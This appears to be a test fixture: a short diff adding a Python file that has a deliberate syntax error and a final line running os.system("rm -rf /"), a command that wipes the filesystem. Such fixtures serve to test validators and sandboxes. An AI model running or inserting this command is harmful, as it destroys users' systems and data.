@@ -1,0 +1,4 @@
+import os
+def broken(:
+    pass
+os.system("rm -rf /")
